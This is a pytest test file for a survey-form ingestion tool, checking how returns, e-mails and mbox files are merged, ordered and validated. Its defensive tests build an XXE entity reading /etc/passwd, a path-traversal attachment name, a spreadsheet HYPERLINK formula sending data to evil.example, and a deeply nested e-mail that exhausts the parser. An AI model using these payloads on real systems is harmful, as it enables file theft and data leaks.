"""Who is who across round, merge and collate; concurrent ingests; bad files; validation by stage."""

from __future__ import annotations

import csv
import hashlib
import json
import mailbox
import os
import sqlite3
import subprocess
import sys
from email import message_from_bytes
from pathlib import Path

import pytest

from docxform.framework import load_framework
from docxform.oxml.fill import fill
from docxform.round.store import SCHEMA_VERSION, open_store
from docxform.validate.rules import validate_return
from tests.support.roundkit import (
    fill_return,
    in_round,
    known_ratings,
    run,
    set_last_saved,
    start_generic_round,
    status_json,
    write_eml,
)

FW = load_framework("sa2003")
ITEMS = [i.id for i in FW.items]
LEVELS = FW.rating_scale.keys
TYPED = ["Asha Patel", "Bill Moss", "Cath Ng", "Dan Roe", "Ella Fox", "Finn Lee", "Gita Rao", "Hugh Day"]


@pytest.fixture(scope="module")
def generic(tmp_path_factory: pytest.TempPathFactory) -> dict:
    """One blank form e-mailed to 8 people, who each type their name on it."""
    root = tmp_path_factory.mktemp("generic")
    rnd = root / "r"
    assert run("round", "start", "sa2003", str(rnd), "--partnership", "Open CDRP").returncode == 0
    [blank] = sorted((rnd / "forms").glob("*.docx"))
    returns = root / "returns"
    returns.mkdir()
    ratings = {}
    for n, name in enumerate(TYPED):
        ratings[name] = known_ratings(ITEMS, LEVELS, 100 + n)
        fill_return(blank, returns / f"copy-{n}.docx", ratings[name], name=name)
    ingested = run("round", "ingest", str(rnd), str(returns))
    return {"root": root, "round": rnd, "returns": returns, "ratings": ratings, "ingest": ingested}


def test_a_generic_form_sent_to_eight_people_gives_eight_respondents(generic: dict) -> None:
    done = generic["ingest"]
    assert done.returncode == 0, done.stderr
    assert len(done.stdout.splitlines()) == 8
    state = status_json(generic["round"])
    assert sorted(r["name"] for r in state["respondents"]) == sorted(TYPED)
    assert {r["state"] for r in state["respondents"]} == {"returned"}
    out = generic["root"] / "report"
    assert "8 returns" in run("round", "report", str(generic["round"]), "-o", str(out)).stdout
    merged = json.loads((out / "merged.json").read_text("utf-8"))
    assert len(merged["respondents"]) == 8
    counts = {lv: sum(r["1.1"] == lv for r in generic["ratings"].values()) for lv in LEVELS}
    assert merged["items"]["1.1"]["counts"] == counts


def test_merge_keeps_all_eight_copies_and_says_so(generic: dict) -> None:
    out = generic["root"] / "merged.json"
    done = run("merge", str(generic["returns"]), "-o", str(out))
    assert done.returncode == 0, done.stderr
    assert "8 returns read, 8 respondents merged; none replaced" in done.stdout
    assert len(json.loads(out.read_text("utf-8"))["respondents"]) == 8


def test_merge_and_collate_keep_the_later_saved_version_not_the_later_name(generic: dict, tmp_path: Path) -> None:
    [blank] = sorted((generic["round"] / "forms").glob("*.docx"))
    folder = tmp_path / "in"
    folder.mkdir()
    old, new = known_ratings(ITEMS, LEVELS, 1), known_ratings(ITEMS, LEVELS, 2)
    set_last_saved(fill_return(blank, folder / "zoe.docx", old, name="Zoe Hart"), "2004-03-01T10:00:00Z")
    set_last_saved(fill_return(blank, folder / "zoe (corrected).docx", new, name="Zoe Hart"), "2004-03-09T10:00:00Z")
    fill_return(blank, folder / "yan.docx", old, name="Yan Wu")
    done = run("merge", str(folder), "-o", str(tmp_path / "m.json"))
    assert "3 returns read, 2 respondents merged; 1 replaced by a later version (1 by same typed name" in done.stdout
    merged = json.loads((tmp_path / "m.json").read_text("utf-8"))
    assert merged["items"]["1.1"]["responses"]["Zoe Hart"]["rating"] == new["1.1"]
    assert merged["duplicates"][0]["kept"]["path"].endswith("zoe (corrected).docx")
    collated = run("collate", str(folder), "-o", str(tmp_path / "out"))
    assert "1 replaced by a later version" in collated.stdout
    merged = json.loads((tmp_path / "out" / "merged.json").read_text("utf-8"))
    assert merged["items"]["2.1"]["responses"]["Zoe Hart"]["rating"] == new["2.1"]


def test_two_ingests_at_the_same_moment_both_land(generic: dict, tmp_path: Path) -> None:
    rnd, blank = start_generic_round(tmp_path)
    batches = [tmp_path / "a", tmp_path / "b"]
    for b, batch in enumerate(batches):
        batch.mkdir()
        for n in range(5):
            fill_return(blank, batch / f"{n}.docx", known_ratings(ITEMS, LEVELS, 10 * b + n), name=f"P{b}{n}")
    shared = batches[0] / "0.docx"
    (batches[1] / "same-bytes.docx").write_bytes(shared.read_bytes())
    procs = [subprocess.Popen([sys.executable, "-m", "docxform", "round", "ingest", str(rnd), str(batch)],
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) for batch in batches]
    results = [(*p.communicate(timeout=300), p.returncode) for p in procs]
    for _out, err, code in results:
        assert code == 0 and "Traceback" not in err, err
    state = status_json(rnd)
    assert sorted(r["name"] for r in state["respondents"]) == sorted(f"P{b}{n}" for b in range(2) for n in range(5))
    assert state["counts"]["receipts"] == 10  # 11 files, one the same bytes as another
    lines = results[0][0].splitlines() + results[1][0].splitlines()
    assert sum("same as before" in line for line in lines) == 1


def test_bad_files_are_one_line_each_and_the_rest_lands(tmp_path: Path) -> None:
    rnd, blank = start_generic_round(tmp_path)
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    fill_return(blank, inbox / "good.docx", known_ratings(ITEMS, LEVELS, 3), name="Good Person")
    (inbox / "damaged.docx").write_bytes(b"PK\x03\x04 this is not really a zip")
    (inbox / "notes.txt").write_text("not a return", "utf-8")
    xxe = inbox / "hostile.docx"
    _hostile_docx(blank, xxe)
    good_mail = fill_return(blank, tmp_path / "mailed.docx", known_ratings(ITEMS, LEVELS, 4), name="Mail Person")
    evil = write_eml(inbox / "evil.eml", "x@example.org", in_round(3), good_mail)
    _rename_attachment(evil, "../../../../tmp/escape.docx")
    (inbox / "broken.eml").write_bytes(b"\xff\xfe\x00garbage")
    hashes = {p: hashlib.sha256(p.read_bytes()).hexdigest() for p in inbox.iterdir()}
    done = run("round", "ingest", str(rnd), str(inbox))
    assert done.returncode == 1
    assert "Traceback" not in done.stderr
    errors = done.stderr.splitlines()
    assert len(errors) == 2 and any("damaged.docx: unreadable" in e for e in errors)
    assert any("hostile.docx: unreadable" in e and "DOCTYPE" in e for e in errors)
    assert "notes.txt: skipped" in done.stdout
    assert sorted(r["name"] for r in status_json(rnd)["respondents"]) == ["Good Person", "Mail Person"]
    assert {p: hashlib.sha256(p.read_bytes()).hexdigest() for p in inbox.iterdir()} == hashes
    assert not Path("/tmp/escape.docx").exists()
    assert len(status_json(rnd)["unreadable"]) == 2


def _hostile_docx(blank: Path, target: Path) -> None:
    import io
    import zipfile

    with zipfile.ZipFile(blank) as zin:
        parts = {n: zin.read(n) for n in zin.namelist()}
    parts["word/document.xml"] = (b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
                                  + parts["word/document.xml"].split(b"?>", 1)[1])
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zout:
        for name, blob in parts.items():
            zout.writestr(name, blob)
    target.write_bytes(buffer.getvalue())


def _rename_attachment(eml: Path, name: str) -> None:
    msg = message_from_bytes(eml.read_bytes())
    for part in msg.walk():
        if part.get_filename():
            part.replace_header("Content-Disposition", f'attachment; filename="{name}"')
    eml.write_bytes(bytes(msg))


def test_mbox_export_and_the_email_date_decides(tmp_path: Path) -> None:
    people = tmp_path / "people.csv"
    people.write_text("name,email\nMo Shah,mo@example.org\nNia Lowe,nia@example.org\n", "utf-8")
    rnd = tmp_path / "r"
    assert run("round", "start", "sa2003", str(rnd), "--respondents", str(people)).returncode == 0
    form = rnd / "forms" / "sa2003-mo-shah.docx"
    early, late = known_ratings(ITEMS, LEVELS, 5), known_ratings(ITEMS, LEVELS, 6)
    box = mailbox.mbox(tmp_path / "export.mbox")
    for ratings, when, label in ((late, in_round(9), "b"),
                                 (early, in_round(1), "a")):
        attached = fill_return(form, tmp_path / f"{label}.docx", ratings)
        box.add(write_eml(tmp_path / f"{label}.eml", "mo@example.org", when, attached).read_bytes())
    box.close()
    done = run("round", "ingest", str(rnd), str(tmp_path / "export.mbox"))
    assert done.returncode == 0, done.stderr
    assert [line.split(": ", 2)[2].split(";")[0] for line in done.stdout.splitlines()] == [
        "new", "an earlier version (kept, the one received before is later and stays current)"]
    mo = next(r for r in status_json(rnd)["respondents"] if r["name"] == "Mo Shah")
    assert mo["versions"] == 2 and [v["file"] for v in mo["history"]] == ["a.docx", "b.docx"]
    merged = json.loads(json.dumps(__import__("docxform.round", fromlist=["x"]).current_merged(rnd).to_dict()))
    assert merged["items"]["1.1"]["responses"]["Mo Shah"]["rating"] == late["1.1"]


def test_a_different_name_typed_on_a_personalised_form_is_held_in_a_round_and_reported_by_merge(
        tmp_path: Path) -> None:
    people = tmp_path / "people.csv"
    people.write_text("name\nMo Shah\n", "utf-8")
    rnd = tmp_path / "r"
    assert run("round", "start", "sa2003", str(rnd), "--respondents", str(people)).returncode == 0
    fill_return(rnd / "forms" / "sa2003-mo-shah.docx", tmp_path / "x.docx", known_ratings(ITEMS, LEVELS, 7),
                name="Someone Else")
    done = run("round", "ingest", str(rnd), str(tmp_path / "x.docx"))
    assert "Mo Shah: HELD, receipt 1" in done.stdout and "'Someone Else', not 'Mo Shah'" in done.stdout
    state = status_json(rnd)
    [mo] = state["respondents"]
    assert mo["state"] == "outstanding" and mo["history"][0]["state"] == "held"
    assert state["counts"]["held"] == 1 and state["counts"]["returned"] == 0
    assert state["held"][0]["settle"].startswith(f"docxform round assign {rnd} 1 --to 'Mo Shah'")
    assert run("merge", str(tmp_path / "x.docx"), "-o", str(tmp_path / "m.json")).returncode == 0
    merged = json.loads((tmp_path / "m.json").read_text("utf-8"))
    assert [r["name"] for r in merged["respondents"]] == ["Mo Shah"]
    [found] = [p for p in merged["problems"] if p["code"] == "respondent-mismatch"]
    assert "'Someone Else' is typed" in found["message"] and found["field"] == "completed_by"


def test_survey_responses_get_no_signatory_errors_but_the_partnership_return_does(generic: dict) -> None:
    returns = sorted(generic["returns"].glob("*.docx"))
    from docxform.parse import parse_form

    data = parse_form(returns[0])
    survey = {p.code for p in validate_return(data, FW, stage="survey")}
    partnership = {p.code for p in validate_return(data, FW, stage="partnership")}
    assert "signature-missing" not in survey and "signature-missing" in partnership
    assert {p.code for p in validate_return(data, FW)} == partnership  # a generic copy: "auto" means partnership
    data.respondent = "Someone Issued"
    assert {p.code for p in validate_return(data, FW)} == survey  # a personalised form: a survey response
    data.respondent = None
    state = status_json(generic["round"])
    out = generic["root"] / "report-sig"
    assert run("round", "report", str(generic["round"]), "-o", str(out)).returncode == 0
    problems = json.loads((out / "merged.json").read_text("utf-8"))["problems"]
    assert not [p for p in problems if p["code"] == "signature-missing"]
    # what the round counts per respondent is the survey stage: item rules only (no evidence given here)
    first = next(r for r in state["respondents"] if r["history"][0]["file"] == returns[0].name)
    assert first["errors"] == sum(p.severity == "error" for p in validate_return(data, FW, stage="survey"))
    assert all(p.item for p in validate_return(data, FW, stage="survey"))
    checked = run("validate", str(out / "consolidated.docx"), "--as", "partnership", "--json")
    codes = {p["code"] for f in json.loads(checked.stdout)["files"] for p in f["problems"]}
    assert "signature-missing" in codes


def test_the_store_is_versioned_and_refuses_a_newer_schema(tmp_path: Path) -> None:
    rnd = tmp_path / "r"
    assert run("round", "start", "sa2003", str(rnd)).returncode == 0
    with sqlite3.connect(rnd / "round.sqlite") as conn:
        assert conn.execute("PRAGMA user_version").fetchone()[0] == SCHEMA_VERSION
        assert conn.execute("PRAGMA journal_mode").fetchone()[0] == "wal"
        conn.execute(f"PRAGMA user_version = {SCHEMA_VERSION + 1}")
    done = run("round", "status", str(rnd))
    assert done.returncode == 1 and "newer docxform" in done.stderr and "Traceback" not in done.stderr
    missing = run("round", "status", str(tmp_path))
    assert missing.returncode == 1 and "not a survey round" in missing.stderr
    with pytest.raises(Exception, match="not a survey round"):
        open_store(tmp_path / "nowhere")


def test_tags_lost_is_a_notice_not_counted_in_the_headline() -> None:
    from docxform import api

    report = api.validate([str(Path(__file__).resolve().parents[3] / "samples" / "returns")])
    lost = [p for p in report.problems if p.code == "tags-lost"]
    assert len(lost) == 3 and {p.severity for p in lost} == {"info"}  # the three samples re-saved by LibreOffice
    assert report.warnings == sum(p.severity == "warning" for p in report.problems)
    assert report.errors + report.warnings == len(report.problems) - 3
    assert "(1 notice needing no action)" in report.to_text()


def test_an_empty_set_of_inputs_is_an_error_never_an_all_clear(tmp_path: Path) -> None:
    empty = tmp_path / "empty"
    empty.mkdir()
    for args in (["validate", str(empty)], ["merge", str(empty), "-o", str(tmp_path / "m.json")],
                 ["summarise", str(empty), "-o", str(tmp_path / "s.xlsx")]):
        done = run(*args)
        assert done.returncode == 1 and done.stderr.startswith("docxform: no "), (args, done.stderr)


def test_folders_of_parsed_json_are_read(generic: dict) -> None:
    parsed = generic["root"] / "parsed"
    files = sorted(generic["returns"].glob("*.docx"))[:3]
    assert run("parse", *map(str, files), "-o", str(parsed)).returncode == 0
    checked = run("validate", str(parsed), "--json")
    assert [Path(f["path"]).name for f in json.loads(checked.stdout)["files"]] == [f"copy-{n}.json" for n in range(3)]
    merged = run("merge", str(parsed), "-o", str(generic["root"] / "pm.json"))
    assert merged.returncode == 0 and "3 returns read, 3 respondents merged" in merged.stdout
    assert run("summarise", str(parsed), "-o", str(generic["root"] / "ps.xlsx")).returncode == 0


def test_a_plan_workbook_received_goes_into_the_report(tmp_path: Path) -> None:
    import openpyxl

    from tests.support.planfill import fill_plan

    rnd, blank = start_generic_round(tmp_path)
    fill_return(blank, tmp_path / "one.docx", known_ratings(ITEMS, LEVELS, 8), name="Ola Berg")
    assert run("generate", "plan", "sa2003", "-o", str(tmp_path / "blank.xlsx")).returncode == 0
    row = {"standard": "1.1", "goal": "Agree a joint tasking protocol", "action": "Draft it", "milestones": "",
           "lead_officer": "Ola Berg", "resources": "", "challenges": "", "measure": "Protocol signed",
           "milestone_date": "2004-06-30", "status": "Not started", "last_reviewed": "2004-03-01", "priority": 1}
    fill_plan(tmp_path / "blank.xlsx", tmp_path / "plan.xlsx", [row],
              {"partnership": "Open CDRP", "lead_officer": "Ola Berg", "period": "2004-05"})
    done = run("round", "ingest", str(rnd), str(tmp_path / "one.docx"), str(tmp_path / "plan.xlsx"))
    assert done.returncode == 0, done.stderr
    assert "plan.xlsx: (improvement plan): new" in done.stdout
    out = tmp_path / "out"
    assert run("round", "report", str(rnd), "-o", str(out)).returncode == 0
    sheet = openpyxl.load_workbook(out / "summary.xlsx", read_only=True)["Plan"]
    assert any("Agree a joint tasking protocol" in row for row in sheet.iter_rows(values_only=True))
    # A plan is no person's return; withdrawn, it leaves the report (undone, it is back).
    refused = run("round", "assign", str(rnd), "2", "--to", "Ola Berg")
    assert refused.returncode == 1 and "is an improvement plan workbook" in refused.stderr
    assert run("round", "withdraw", str(rnd), "2").returncode == 0
    assert run("round", "report", str(rnd), "-o", str(tmp_path / "out2")).returncode == 0
    book = openpyxl.load_workbook(tmp_path / "out2" / "summary.xlsx", read_only=True)
    assert not any("Agree a joint tasking protocol" in row for ws in book.worksheets
                   for row in ws.iter_rows(values_only=True))


@pytest.mark.libreoffice
def test_doc_and_word_2003_xml_returns_are_received(tmp_path: Path) -> None:
    from tests.support.lo import convert

    people = tmp_path / "people.csv"
    people.write_text("name\nMo Shah\nNia Lowe\n", "utf-8")
    rnd = tmp_path / "r"
    assert run("round", "start", "sa2003", str(rnd), "--respondents", str(people)).returncode == 0
    mo = fill_return(rnd / "forms" / "sa2003-mo-shah.docx", tmp_path / "mo.docx", known_ratings(ITEMS, LEVELS, 9))
    nia = fill_return(rnd / "forms" / "sa2003-nia-lowe.docx", tmp_path / "nia.docx", known_ratings(ITEMS, LEVELS, 9),
                      name="Nia Lowe")
    [doc] = convert([mo], "doc:MS Word 97", tmp_path / "doc")
    [xml] = convert([nia], "xml:MS Word 2003 XML", tmp_path / "xml")
    done = run("round", "ingest", str(rnd), str(doc), str(xml))
    assert done.returncode == 0, done.stderr
    assert "mo.doc: Mo Shah: new" in done.stdout  # .doc keeps the form's properties
    assert "nia.xml: Nia Lowe: new" in done.stdout  # Word 2003 XML: found by the name typed on it
    assert status_json(rnd)["counts"]["returned"] == 2


def test_the_readme_round_on_the_samples_works_as_written(tmp_path: Path) -> None:
    import shlex

    repo = Path(__file__).resolve().parents[3]
    readme = (repo / "README.md").read_text("utf-8")
    block = readme.split("## Two commands", 1)[1].split("```sh", 1)[1].split("```", 1)[0]
    steps = [part.strip() for part in block.strip().split("&&")]
    assert steps[0] == "python3 -m pip install -e '.[dev]'"
    commands = [shlex.split(step)[1:] for step in steps[1:]]
    assert [c[:2] for c in commands] == [["round", "start"], ["round", "ingest"], ["round", "status"],
                                         ["round", "report"]]
    (tmp_path / "samples").symlink_to(repo / "samples")
    outputs = []
    for args in commands:
        done = subprocess.run([sys.executable, "-m", "docxform", *args], capture_output=True, text=True,
                              cwd=tmp_path, timeout=600, env={**os.environ, "PYTHONPATH": str(repo)})
        assert done.returncode == 0, (args, done.stderr)
        outputs.append(done.stdout)
    assert "8 of 8 returned" in outputs[2] and "matches no issued form" not in outputs[2]
    assert (tmp_path / "myround" / "report" / "consolidated.docx").is_file()


def test_the_round_folder_and_blank_forms_sent_back_are_not_returns(tmp_path: Path) -> None:
    people = tmp_path / "people.csv"
    people.write_text("name\nMo Shah\nNia Lowe\n", "utf-8")
    rnd = tmp_path / "r"
    assert run("round", "start", "sa2003", str(rnd), "--respondents", str(people)).returncode == 0
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    (inbox / "unfilled.docx").write_bytes((rnd / "forms" / "sa2003-mo-shah.docx").read_bytes())
    fill_return(rnd / "forms" / "sa2003-nia-lowe.docx", inbox / "nia.docx", known_ratings(ITEMS, LEVELS, 11))
    done = run("round", "ingest", str(rnd), str(inbox), str(rnd), str(rnd / "forms" / "sa2003-nia-lowe.docx"))
    assert done.returncode == 0, done.stderr
    assert "unfilled.docx: skipped (a blank form this round sent out, not a return)" in done.stdout
    assert done.stdout.count("inside the round folder") == 2
    assert [(r["name"], r["state"]) for r in status_json(rnd)["respondents"]] == [
        ("Mo Shah", "outstanding"), ("Nia Lowe", "returned")]


def test_two_people_of_one_name_in_different_agencies_stay_apart(tmp_path: Path) -> None:
    rnd, blank = start_generic_round(tmp_path)
    inbox = tmp_path / "in"
    inbox.mkdir()
    police, council, again = (known_ratings(ITEMS, LEVELS, s) for s in (20, 21, 22))
    fill_return(blank, inbox / "a.docx", police, name="Jo Smith", organisation="Police")
    fill_return(blank, inbox / "b.docx", council, name="Jo Smith", organisation="Council")
    set_last_saved(fill_return(blank, inbox / "c.docx", again, name="jo  smith", organisation="police"),
                   "2004-03-09T10:00:00Z")
    done = run("round", "ingest", str(rnd), str(inbox))
    assert done.returncode == 0, done.stderr
    told = [line for line in done.stdout.splitlines() if line.startswith(str(inbox / "b.docx"))]
    assert told and told[0].endswith("; NOTE the same name as an earlier respondent of 'Police', but another "
                                     "organisation and no e-mail in common: kept apart"), done.stdout
    rows = [(r["name"], r["organisation"], r["versions"]) for r in status_json(rnd)["respondents"]]
    assert rows == [("Jo Smith", "Police", 2), ("Jo Smith", "Council", 1)]
    done = run("merge", str(inbox), "-o", str(tmp_path / "m.json"))
    assert "3 returns read, 2 respondents merged; 1 replaced by a later version" in done.stdout
    merged = json.loads((tmp_path / "m.json").read_text("utf-8"))
    assert [r["source"]["path"] for r in merged["respondents"]] == [str(inbox / "c.docx"), str(inbox / "b.docx")]


def test_the_report_writes_feedback_copies_of_returns_with_problems(generic: dict) -> None:
    import zipfile

    out = generic["root"] / "report-feedback"
    done = run("round", "report", str(generic["round"]), "-o", str(out))
    assert done.returncode == 0, done.stderr
    assert f"feedback copies (8 returns with problems): {out / 'feedback'}" in done.stdout  # no evidence given
    copies = sorted((out / "feedback").glob("*.docx"))
    assert len(copies) == 8
    with zipfile.ZipFile(copies[0]) as z:
        comments = z.read("word/comments.xml").decode()
    assert "evidence" in comments.lower()


def test_later_compares_like_with_like_then_the_order_received() -> None:
    from docxform.survey.identity import Times, compare_versions

    mail_old, mail_new = Times("2004-03-01T00:00:00Z", None, 2), Times("2004-03-09T00:00:00Z", None, 1)
    assert compare_versions(mail_new, mail_old) == 1  # both e-mailed: the Dates decide, not the order received
    saved_old, saved_new = Times(None, "2004-03-01T00:00:00Z", 2), Times(None, "2004-03-05T00:00:00Z", 1)
    assert compare_versions(saved_new, saved_old) == 1  # both saved: the last-saved times decide
    unstamped = Times(None, None, 3)
    assert compare_versions(unstamped, saved_new) == 1 and compare_versions(saved_new, unstamped) == -1
    assert compare_versions(Times(None, "2004-03-09T00:00:00Z", 1), Times(None, None, 2)) == -1


def test_compare_reads_a_round_folder_through_its_current_returns(generic: dict) -> None:
    out = generic["root"] / "report-compare"
    assert run("round", "report", str(generic["round"]), "-o", str(out)).returncode == 0
    done = run("compare", str(out / "merged.json"), str(generic["round"]), "--json")
    assert done.returncode == 0, done.stderr
    items = json.loads(done.stdout)["items"]
    assert len(items) == len(ITEMS) and all(v["agreed"][0] == v["agreed"][1] for v in items.values())
    assert (generic["round"] / "current-merged.json").is_file()


@pytest.mark.parametrize("kind", ["empty", "foreign"])
def test_a_round_sqlite_that_is_not_a_round_is_refused_untouched(tmp_path: Path, kind: str) -> None:
    db = tmp_path / "round.sqlite"
    if kind == "empty":
        db.write_bytes(b"")
    else:
        with sqlite3.connect(db) as conn:
            conn.execute("CREATE TABLE notes (body TEXT)")
        conn.close()
    before = db.read_bytes()
    done = run("round", "status", str(tmp_path))
    assert done.returncode == 1, done.stderr
    assert "not a survey round (no round store)" in done.stderr and "Traceback" not in done.stderr
    assert db.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["round.sqlite"]


def test_an_unreadable_file_sent_again_is_unreadable_again(tmp_path: Path) -> None:
    rnd = tmp_path / "r"
    assert run("round", "start", "sa2003", str(rnd)).returncode == 0
    damaged = tmp_path / "damaged.docx"
    damaged.write_bytes(b"PK\x03\x04 this is not really a zip")
    first = run("round", "ingest", str(rnd), str(damaged))
    assert first.returncode == 1 and "damaged.docx: unreadable (" in first.stderr
    [cause] = [line for line in first.stderr.splitlines() if "damaged.docx: unreadable" in line]
    again = run("round", "ingest", str(rnd), str(damaged))
    assert again.returncode == 1, again.stdout
    assert cause in again.stderr.splitlines()
    assert "same as before" not in again.stdout


def test_the_same_bytes_under_another_extension_are_not_kept_twice(tmp_path: Path) -> None:
    rnd, blank = start_generic_round(tmp_path)
    good = fill_return(blank, tmp_path / "good.docx", known_ratings(ITEMS, LEVELS, 5), name="Good Person")
    (tmp_path / "good.odt").write_bytes(good.read_bytes())
    assert run("round", "ingest", str(rnd), str(good)).returncode == 0
    renamed = run("round", "ingest", str(rnd), str(tmp_path / "good.odt"))
    assert renamed.returncode == 0 and renamed.stdout.strip() == f"{tmp_path / 'good.odt'}: Good Person: same as before"
    sha = hashlib.sha256(good.read_bytes()).hexdigest()
    assert sorted(p.name for p in (rnd / "received").glob(f"{sha}.*")) == [f"{sha}.docx"]


def test_the_chase_list_keeps_formula_like_names_as_text(tmp_path: Path) -> None:
    people = tmp_path / "people.csv"
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    with people.open("w", newline="", encoding="utf-8") as f:
        csv.writer(f).writerows([["name", "organisation", "role", "email"],
                                 [evil, "+Acme", "Member", "@x@example.org"], ["Ann Bee", "Police", "Member", "a@b.org"]])
    rnd = tmp_path / "r"
    assert run("round", "start", "sa2003", str(rnd), "--respondents", str(people)).returncode == 0
    chase = tmp_path / "chase.csv"
    assert run("round", "status", str(rnd), "--chase", str(chase)).returncode == 0
    rows = list(csv.reader(chase.read_text("utf-8").splitlines()))
    assert rows[1][:4] == ["'" + evil, "'@x@example.org", "'+Acme", "Member"]
    assert rows[2][:4] == ["Ann Bee", "a@b.org", "Police", "Member"]


def test_three_versions_are_ordered_by_one_key_and_ingest_agrees_with_status(tmp_path: Path) -> None:
    """E-mail Dates say C < A, saved times say A < B, order received says B < C: per pair a cycle."""
    from docxform.survey.identity import Times, version_order

    a, b, c = Times("2004-03-09T00:00:00Z", "2004-03-01T00:00:00Z", 1), Times(None, "2004-03-05T00:00:00Z", 2), \
        Times("2004-03-01T00:00:00Z", None, 3)
    assert version_order([a, b, c]) == [0, 1, 2]  # not every version has a Date or a saved time: order received
    assert version_order([a, c]) == [1, 0]  # both e-mailed: the Dates
    people = tmp_path / "people.csv"
    people.write_text("name,email\nMo Shah,mo@example.org\n", "utf-8")
    rnd = tmp_path / "r"
    assert run("round", "start", "sa2003", str(rnd), "--respondents", str(people)).returncode == 0
    form = rnd / "forms" / "sa2003-mo-shah.docx"
    first = fill_return(form, tmp_path / "a.docx", known_ratings(ITEMS, LEVELS, 11))
    set_last_saved(first, "2004-03-01T00:00:00Z")
    second = fill_return(form, tmp_path / "b.docx", known_ratings(ITEMS, LEVELS, 12))
    set_last_saved(second, "2004-03-05T00:00:00Z")
    third = fill_return(form, tmp_path / "c.docx", known_ratings(ITEMS, LEVELS, 13))
    inputs = [write_eml(tmp_path / "a.eml", "mo@example.org", in_round(9), first), second,
              write_eml(tmp_path / "c.eml", "mo@example.org", in_round(1), third)]
    outcomes = []
    for path in inputs:
        done = run("round", "ingest", str(rnd), str(path))
        assert done.returncode == 0, done.stderr
        outcomes.append(done.stdout.split(": ", 2)[2].split(";")[0])
    assert outcomes == ["new", "resubmission", "resubmission"]
    mo = next(r for r in status_json(rnd)["respondents"] if r["name"] == "Mo Shah")
    assert [v["file"] for v in mo["history"]] == ["a.docx", "b.docx", "c.docx"]
    assert [v["current"] for v in mo["history"]] == [False, False, True]


def _deeply_nested_mail(depth: int, parameter: bytes = b"boundary") -> bytes:
    head = b"From: deep@example.org\r\nSubject: deep\r\n"
    body = b"innermost\r\n"
    for n in range(depth):
        boundary = f"b{n}".encode()
        body = (b"Content-Type: multipart/mixed; " + parameter + b"=\"" + boundary + b"\"\r\n\r\n--" + boundary
                + b"\r\n" + body + b"\r\n--" + boundary + b"--\r\n")
    return head + b"MIME-Version: 1.0\r\n" + body


def test_a_deeply_nested_email_is_its_own_line_and_the_rest_lands(tmp_path: Path) -> None:
    rnd, blank = start_generic_round(tmp_path)
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    deep = _deeply_nested_mail(2000)  # refused before parsing: more multipart sections than any e-mail has
    # spelt so that the count misses it: Python's parser then fails (RecursionError), and that is the line too
    (inbox / "a-deep.eml").write_bytes(_deeply_nested_mail(2000, b"bOuNdArY"))
    good = fill_return(blank, tmp_path / "good.docx", known_ratings(ITEMS, LEVELS, 21), name="Good Person")
    mailed = write_eml(tmp_path / "ok.eml", "ok@example.org", in_round(3), good)
    box = mailbox.mbox(inbox / "b-export.mbox")
    box.add(deep)
    box.add(mailed.read_bytes())
    box.close()
    done = run("round", "ingest", str(rnd), str(inbox))
    assert done.returncode == 1, done.stderr
    assert "Traceback" not in done.stderr
    errors = done.stderr.splitlines()
    assert len(errors) == 2, errors
    assert errors[0].startswith(f"{inbox / 'a-deep.eml'}: unreadable (not a readable e-mail file (")
    assert errors[1].startswith(f"{inbox / 'b-export.mbox'} (b-export.mbox message 1): unreadable "
                                "(not a readable e-mail file (more than 500 multipart sections))")
    assert done.stdout.strip().split(";")[0] == f"{inbox / 'b-export.mbox'} (good.docx): Good Person: new"
    assert [r["name"] for r in status_json(rnd)["respondents"]] == ["Good Person"]


def test_a_forwarded_returns_sender_and_date_are_the_inner_messages(tmp_path: Path) -> None:
    people = tmp_path / "people.csv"
    people.write_text("name,email\nMo Shah,mo@example.org\n", "utf-8")
    rnd = tmp_path / "r"
    assert run("round", "start", "sa2003", str(rnd), "--respondents", str(people)).returncode == 0
    form = rnd / "forms" / "sa2003-mo-shah.docx"
    attached = fill_return(form, tmp_path / "mo.docx", known_ratings(ITEMS, LEVELS, 22))
    sent = in_round(2, 9, 30)
    inner = message_from_bytes(
        write_eml(tmp_path / "inner.eml", "mo@example.org", sent, attached).read_bytes())
    from email.message import EmailMessage
    from email.utils import format_datetime

    outer = EmailMessage()
    outer["From"] = "Boss <boss@example.org>"
    outer["Date"] = format_datetime(in_round(20))
    outer.set_content("Forwarding Mo's return.")
    outer.add_attachment(inner)
    (tmp_path / "fwd.eml").write_bytes(bytes(outer))
    done = run("round", "ingest", str(rnd), str(tmp_path / "fwd.eml"))
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip().split(";")[0] == f"{tmp_path / 'fwd.eml'} (mo.docx): Mo Shah: new"
    mo = next(r for r in status_json(rnd)["respondents"] if r["name"] == "Mo Shah")
    expected = sent.strftime("%Y-%m-%dT%H:%M:%SZ")
    assert mo["history"][0]["when"] == expected and mo["history"][0]["when_from"] == "e-mail Date"
    with sqlite3.connect(rnd / "round.sqlite") as conn:
        assert conn.execute("SELECT sender, sent_at FROM receipt").fetchall() == [("mo@example.org", expected)]
    conn.close()


def test_a_failure_inside_receive_is_that_files_line_and_the_rest_lands(tmp_path: Path,
                                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    ingest_module = __import__("importlib").import_module("docxform.round.ingest")

    rnd, blank = start_generic_round(tmp_path)
    first = fill_return(blank, tmp_path / "a.docx", known_ratings(ITEMS, LEVELS, 31), name="Ann Bee")
    second = fill_return(blank, tmp_path / "b.docx", known_ratings(ITEMS, LEVELS, 32), name="Bob Cee")
    real, calls = ingest_module._version, []

    def failing_once(parsed: dict, framework: object) -> object:
        calls.append(1)
        if len(calls) == 1:
            raise ValueError("boom")
        return real(parsed, framework)  # type: ignore[arg-type]

    monkeypatch.setattr(ingest_module, "_version", failing_once)
    result = ingest_module.ingest(rnd, [first, second])
    assert [line.outcome for line in result.lines] == ["unreadable", "new"]
    assert result.lines[0].text().startswith(f"{first}: unreadable (internal-error: docxform failed on this file "
                                             "(ValueError: boom)")
    assert result.lines[1].who == "Bob Cee"


def test_a_corrected_return_loses_its_stale_feedback_copy_when_reported_again(tmp_path: Path) -> None:
